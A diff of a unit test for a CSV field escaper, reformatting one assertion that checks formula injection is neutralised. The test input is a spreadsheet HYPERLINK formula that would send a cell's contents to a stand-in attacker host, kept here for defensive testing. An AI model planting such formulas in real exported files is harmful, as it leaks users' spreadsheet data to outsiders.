@@ -60,7 +60,9 @@ describe('csvField', () => {
         expect(shown).not.toMatch(FORMULA);
       }),
     );
-    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"singles")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""singles"")"');
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"singles")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""singles"")"',
+    );
   });
 });
 
